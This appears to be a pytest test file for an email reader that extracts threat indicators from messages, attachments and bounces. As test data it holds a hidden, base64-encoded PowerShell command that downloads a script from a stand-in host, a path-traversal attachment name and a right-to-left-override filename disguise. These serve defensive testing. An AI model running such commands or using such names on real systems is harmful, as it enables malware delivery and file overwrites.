"""One message to answers: what is handed over, what is read, and where each indicator stood."""

import io
import zipfile
from base64 import b64encode
from collections.abc import Callable
from datetime import UTC, datetime
from email.message import EmailMessage
from email.policy import SMTP

import pytest

from tqimap.indicators import Options
from tqimap.model import Place
from tqimap.reader import attachment, handover
from tqimap.reader.answers import Answer, Attached, Closed, Data, Explained, Found, Noted, Opened, Read, Split, Wording
from tqimap.reader.message import MessageReader
from tqimap.reader.options import ReaderOptions

RECEIVED = datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000b4944415478da636000020000050001"
    "e9fadcd80000000049454e44ae426082"
)


def mail(text: str = "", subject: str = "Report", **fields: str) -> EmailMessage:
    made = EmailMessage(policy=SMTP)
    made["From"] = "Alice <alice@sender-demo.org>"
    made["Subject"] = subject
    for name, value in fields.items():
        made[name.replace("_", "-")] = value
    made.set_content(text)
    return made


def attach(made: EmailMessage, name: str, content: bytes, media_type: str = "application/octet-stream") -> None:
    maintype, _, subtype = media_type.partition("/")
    made.add_attachment(content, maintype=maintype, subtype=subtype, filename=name)


def answers(made: EmailMessage | bytes, options: ReaderOptions | None = None) -> list[Answer]:
    raw = made if isinstance(made, bytes) else made.as_bytes()
    return list(MessageReader(options or ReaderOptions()).answers(raw, RECEIVED))


def found(given: list[Answer]) -> set[tuple[str, str, int | None]]:
    return {
        (indicator.value, str(answer.place), answer.attachment)
        for answer in given
        if isinstance(answer, Found)
        for indicator in answer.indicators
        if indicator.type != "Email Address" or "sender-demo" not in indicator.value
    }


def files(given: list[Answer]) -> list[tuple[str, bytes]]:
    """Names and contents, as they would be spooled."""
    held: list[tuple[str, bytes]] = []
    for answer in given:
        match answer:
            case Attached(name):
                held.append((name, b""))
            case Data(piece):
                held[-1] = (held[-1][0], held[-1][1] + piece)
    return held


def test_the_header_opens_the_message() -> None:
    made = mail("", "Grüße,\r\n aus  Köln".replace("\r\n", ""), To="Bob <bob@b.example>, c@c.example", Cc="d@d.example")
    made["Message-ID"] = "<1@sender-demo.org>"
    made["Date"] = "Thu, 01 Jan 2026 12:00:00 +0100"
    assert answers(made)[0] == Opened(
        message_id="<1@sender-demo.org>",
        subject="Grüße, aus Köln",
        sender="alice@sender-demo.org",
        recipients=("bob@b.example", "c@c.example", "d@d.example"),
        date="2026-01-01T11:00:00+00:00",
    )


def test_a_date_from_the_future_is_left_to_internaldate() -> None:
    (opened,) = [a for a in answers(mail(Date="Thu, 01 Jan 2099 12:00:00 +0000")) if isinstance(a, Opened)]
    assert opened.date == ""


def test_bodies_are_read_with_their_places() -> None:
    made = mail("see hxxp://plain[.]evil-demo[.]com/a\n")
    made.add_alternative('<p>see <a href="http://html.evil-demo.com/b">this</a></p>', subtype="html")
    assert found(answers(made)) == {
        ("http://plain.evil-demo.com/a", "body text", None),
        ("http://html.evil-demo.com/b", "body html, a href", None),
    }


def test_encoded_commands_in_a_body_are_told() -> None:
    command = b64encode("iwr http://x.evil-demo.com/a.ps1 -OutFile b.ps1".encode("utf-16-le")).decode()
    made = mail(f"It ran\npowershell -w hidden -enc {command[:40]}\n{command[40:]}\n\nand ended.\n")
    made.add_alternative(f"<p>It ran <code>powershell -enc {command}</code></p>", subtype="html")
    assert found(answers(made)) == {
        ("http://x.evil-demo.com/a.ps1", "body text, command, decoded", None),
        ("http://x.evil-demo.com/a.ps1", "body html, command, decoded", None),
    }


def test_those_who_got_a_message_are_no_indicators_in_its_body() -> None:
    made = mail(
        "sent to Bob@b-demo.com and d@d-demo.com, ask bob-owner@b-demo.com, see eve@e-demo.com and hxxp://x[.]e-demo.com/?u=bob@b-demo.com\n",
        To="Bob <bob@b-demo.com>",
    )
    made["Delivered-To"] = "d@d-demo.com"
    attach(made, "list.txt", b"bob@b-demo.com\r\n", "text/plain")
    assert found(answers(made)) == {
        ("eve@e-demo.com", "body text", None),
        ("http://x.e-demo.com/?u=bob@b-demo.com", "body text", None),
        ("bob@b-demo.com", "list.txt", 0),
    }


def test_nor_are_they_in_headers_of_what_is_attached_to_it() -> None:
    bounced = mail("", To="eve@e-demo.com", Reply_To="mallory@e-demo.com", Return_Path="Bob <bob@b-demo.com>")
    made = mail("", To="bob@b-demo.com")
    made.add_attachment(bounced)
    assert {value for value, _, _ in found(answers(made))} == {"mallory@e-demo.com"}


BOUNCE = b"""From: MAILER-DAEMON@quota-four.com
Subject: DELIVERY FAILURE: User bob (bob@quota-demo.com) not listed
Content-Type: multipart/report; report-type=delivery-status; boundary="B"

--B
Content-Type: %s

<bob@quota-demo.com>: host mx.quota-demo.com[44.128.7.21] said: 550 5.1.1 (evil[.]quota-two[.]com)
<a href="mailto:bob@quota-demo.com">Bob</a> https://held.quota-two.com/release
--B
Content-Type: message/delivery-status

Reporting-MTA: dns; relay.quota-demo.com
Received-From-MTA: dns; gate.quota-demo.com

Final-Recipient: rfc822; bob@quota-demo.com
Remote-MTA: dns; mx.quota-demo.com

--B
Content-Type: message/rfc822

From: eve@quota-three.com
To: bob@quota-demo.com

https://quota-three.com/login
--B--
"""


@pytest.mark.parametrize(("type_", "body"), [(b"text/plain", "body text"), (b"text/html", "body html")])
def test_of_a_bounce_neither_machines_nor_recipients_are_indicators(type_: bytes, body: str) -> None:
    """What was not delivered is read as a mail that was forwarded; links and what somebody defanged are told."""
    assert found(answers(BOUNCE % type_)) == {
        ("evil.quota-two.com", body, None),
        ("https://held.quota-two.com/release", body, None),
        ("eve@quota-three.com", "message.eml, header From", 0),
        ("https://quota-three.com/login", "message.eml, body text", 0),
    }


def test_so_it_is_where_the_message_stands_below_the_words_of_a_mail_system() -> None:
    made = mail(
        "Hi. This is the qmail-send program at relay.quota-demo.com.\n\n<bob@quota-demo.com>:\n"
        "44.128.7.21 does not like recipient.\n\n--- Below this line is a copy of the message.\n\n"
        "From: eve@quota-three.com\nTo: bob@quota-demo.com\nContent-Type: text/html\n\n"
        '<a href="https://quota-three.com/login">Your mail</a>\n'
    )
    assert found(answers(made)) == {
        ("eve@quota-three.com", "body text, message.eml, header From", None),
        ("https://quota-three.com/login", "body text, message.eml, a href", None),
    }


def test_attachments_are_handed_over_before_anything_is_read() -> None:
    made = mail("http://body.evil-demo.com/x")
    attach(made, "list.txt", b"http://list.evil-demo.com/y\r\n", "text/plain")
    attach(made, "a.bin", b"\x00\x01\x02" * 100)
    given = answers(made)
    kinds = [type(answer) for answer in given]
    assert files(given) == [("list.txt", b"http://list.evil-demo.com/y\r\n"), ("a.bin", b"\x00\x01\x02" * 100)]
    assert kinds.index(Found) > kinds.index(Split) > max(i for i, kind in enumerate(kinds) if kind is Closed)


def test_only_texts_are_read_here() -> None:
    made = mail()
    attach(made, "list.csv", b"ip\n44.128.1.1\n44.128.1.2\n", "text/csv")
    attach(made, "a.pdf", b"%PDF-1.4 (http://pdf.evil-demo.com/)")
    given = answers(made)
    assert [answer for answer in given if isinstance(answer, Read)] == [Read(0)]
    assert [answer.format for answer in given if isinstance(answer, Closed)] == ["csv", "pdf"]
    assert found(given) == {("44.128.1.1", "list.csv", 0), ("44.128.1.2", "list.csv", 0)}


def test_an_attached_message_is_a_file_and_its_attachments_are_too() -> None:
    inner = mail("http://inner.evil-demo.com/1\n", "Inner", Reply_To="boss@inner-demo.com")
    attach(inner, "deep.txt", b"http://deep.evil-demo.com/2\n", "text/plain")
    made = mail("http://outer.evil-demo.com/0\n")
    made.add_attachment(inner, filename="inner.eml")
    given = answers(made)
    assert [name for name, _ in files(given)] == ["inner.eml", "deep.txt"]
    assert files(given)[0][1] in made.as_bytes()
    assert [answer.path for answer in given if isinstance(answer, Attached)] == [(), ("inner.eml",)]
    assert found(given) == {
        ("http://outer.evil-demo.com/0", "body text", None),
        ("http://inner.evil-demo.com/1", "inner.eml, body text", 0),
        ("boss@inner-demo.com", "inner.eml, header Reply-To", 0),
        ("http://deep.evil-demo.com/2", "inner.eml › deep.txt", 1),
    }


def test_a_message_in_a_file_is_taken_apart_whatever_it_is_declared() -> None:
    inner = mail("http://inner.evil-demo.com/1\n", Date="Thu, 01 Jan 2026 12:00:00 +0100", Message_ID="<2@x>")
    attach(inner, "deep.bin", b"\x00\x01")
    made = mail()
    attach(made, "forward.dat", inner.as_bytes())
    given = answers(made)
    assert [name for name, _ in files(given)] == ["forward.dat", "deep.bin"]


def test_nesting_ends_and_the_rest_is_left_to_the_reader_of_documents() -> None:
    made = mail("http://bottom.evil-demo.com/\n")
    for _ in range(handover.NESTING + 3):
        outer = mail()
        outer.add_attachment(made)
        made = outer
    given = answers(made)
    count = len(files(given))
    assert count == handover.NESTING + 1
    assert {(value, attachment) for value, _, attachment in found(given)} == {
        ("http://bottom.evil-demo.com/", count - 1)
    }


def test_more_attachments_than_anybody_sends_are_said(monkeypatch) -> None:
    monkeypatch.setattr(handover, "MAX_ATTACHMENTS", 3)
    made = mail()
    for number in range(5):
        attach(made, f"{number}.bin", bytes([number]))
    given = answers(made)
    assert [name for name, _ in files(given)] == ["0.bin", "1.bin", "2.bin"]
    assert Noted("more than 3 attachments, the others become no File", True) in given


def test_a_large_attachment_only_passes_through(monkeypatch) -> None:
    monkeypatch.setattr(handover, "HELD_BYTES", 1000)
    content = b"http://large.evil-demo.com/\n" * 100_000
    made = mail()
    attach(made, "large.txt", content)
    released: list[int] = []
    given = list(MessageReader(ReaderOptions(), lambda: released.append(1)).answers(made.as_bytes(), RECEIVED))
    assert files(given) == [("large.txt", content)]
    assert [answer for answer in given if isinstance(answer, Closed)] == [Closed("")]
    assert len(released) == len([answer for answer in given if isinstance(answer, Data)]) > 1


def test_a_picture_in_the_page_is_no_file(monkeypatch) -> None:
    made = mail()
    made.add_alternative('<img src="cid:logo@x"><p>text</p>', subtype="html")
    list(made.iter_parts())[1].add_related(PNG, "image", "png", cid="<logo@x>")
    attach(made, "shown.png", PNG, "image/png")
    with_codes = importable(True, monkeypatch)
    assert [(a.name, a.is_file) for a in with_codes(made)] == [("image.png", False), ("shown.png", True)]
    without = importable(False, monkeypatch)
    assert [(a.name, a.is_file) for a in without(made)] == [("shown.png", True)]


def importable(zxing: bool, monkeypatch) -> Callable[[EmailMessage], list[Attached]]:
    def told(made: EmailMessage) -> list[Attached]:
        monkeypatch.setattr(handover, "find_spec", lambda name: object() if zxing else None)
        return [answer for answer in answers(made) if isinstance(answer, Attached)]

    return told


def test_what_the_message_says_of_itself() -> None:
    made = mail("TLP:AMBER\nThe archive is attached, Passwort: Geheim!23\n", "TLP:GREEN report")
    assert Wording((), "AMBER") in answers(made), "there is nothing that a password could open"
    attach(made, "a.zip", b"PK\3\4", "application/zip")
    assert Wording(("Geheim!23",), "AMBER") in answers(made)
    assert Wording((), "RED") in answers(mail("nothing", "[TLP:RED] Report"))
    assert not [answer for answer in answers(mail("nothing")) if isinstance(answer, Wording)]


def test_a_text_beside_an_archive_may_name_its_password() -> None:
    made = mail("see attached", "x")
    made.add_attachment("The password is Secret1", filename="password.txt")
    made.add_attachment("password: " + "long " * 999, filename="manual.txt")
    assert Wording(("Secret1",), "") in answers(made)


def test_names_are_safe_to_use() -> None:
    made = mail()
    attach(made, "../../etc/cron.d/x", b"\x00")
    attach(made, "in\u202evoice.exe", b"\x00\x01")
    assert [name.count("/") for name, _ in files(answers(made))] == [0, 0]
    assert files(answers(made))[1][0] == "invoice.exe"


def test_names_of_attachments_are_indicators_on_request() -> None:
    made = mail("see the attachment")
    attach(made, "invoice.exe", b"MZ")
    assert "invoice.exe" not in {value for value, _, _ in found(answers(made))}
    wanted = ReaderOptions(indicators=Options(types={"Email Attachment": True, "Email Subject": True}))
    assert found(answers(made, wanted)) == {
        ("invoice.exe", "invoice.exe", 0), ("Report", "header Subject", None),
    }  # fmt: skip


def test_explaining_tells_dropped_candidates_and_lines() -> None:
    made = mail("nothing\nhttp://good.evil-demo.com/x and 192.168.1.1\n")
    given = answers(made, ReaderOptions(explain=True))
    told = {
        (candidate.value, answer.place, candidate.line, candidate.kept)
        for answer in given
        if isinstance(answer, Explained)
        for candidate in answer.candidates
    }
    assert ("http://good.evil-demo.com/x", Place(body="text"), 2, True) in told
    assert ("192.168.1.1", Place(body="text"), 2, False) in told


def test_a_file_is_read_like_the_only_attachment_of_a_message() -> None:
    reader = MessageReader(ReaderOptions())
    given = list(reader.file_answers(b"ip,x\n44.128.1.1,y\n44.128.1.2,y\n", "list.csv", RECEIVED))
    assert [name for name, _ in files(given)] == ["list.csv"]
    assert ("44.128.1.1", "list.csv", 0) in found(given)
    made = mail("http://body.evil-demo.com/x\n", Message_ID="<3@x>")
    given = list(MessageReader(ReaderOptions()).file_answers(made.as_bytes(), "mail.eml", RECEIVED))
    assert found(given) == {("http://body.evil-demo.com/x", "body text", None)}


def test_a_saved_page_tells_where_its_parts_were() -> None:
    saved = (
        b"Subject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\n"
        b"Content-Type: text/html\r\nContent-Location: http://page.evil-demo.com/a\r\n\r\n<p>x</p>\r\n--b--\r\n"
    )
    assert found(answers(saved)) == {("http://page.evil-demo.com/a", "body html, header Content-Location", None)}
    archived = io.BytesIO()
    with zipfile.ZipFile(archived, "w") as archive:
        archive.writestr("page.mht", saved)
    given = attachment.read(archived.getvalue(), "a.zip", (), ReaderOptions())
    assert ("http://page.evil-demo.com/a", "a.zip › page.mht, header Content-Location") in {
        (value, place) for value, place, _ in found(list(given))
    }


@pytest.mark.parametrize(
    ("parameters", "address"),
    [
        (b'access-type=URL;\r\n URL="http://x.evil-demo.com/\r\n a"', "http://x.evil-demo.com/a"),
        (b'access-type=anon-ftp; site="x.evil-demo.com"; directory=pub; name=a.exe', "ftp://x.evil-demo.com/pub/a.exe"),
    ],
)
def test_what_a_part_only_points_at_is_related_to_its_file(parameters: bytes, address: str) -> None:
    pointing = (
        b"Subject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n"
        b"Content-Type: message/external-body; "
        + parameters
        + b"\r\n\r\nContent-Type: application/pdf\r\n\r\n--b--\r\n"
    )
    given = answers(pointing)
    ((name, _),) = files(given)
    assert (address, f"{name}, where it is", 0) in found(given)


def test_garbage_is_read_like_a_message() -> None:
    for raw in (b"", b"\x00" * 1000, b"\xff\xfe" * 500, b"\r\n\r\n\r\n", b"Subject: =?utf-8?q?=\r\n"):
        kinds = [type(answer) for answer in answers(raw)]
        assert kinds[0] is Opened
        assert Split in kinds
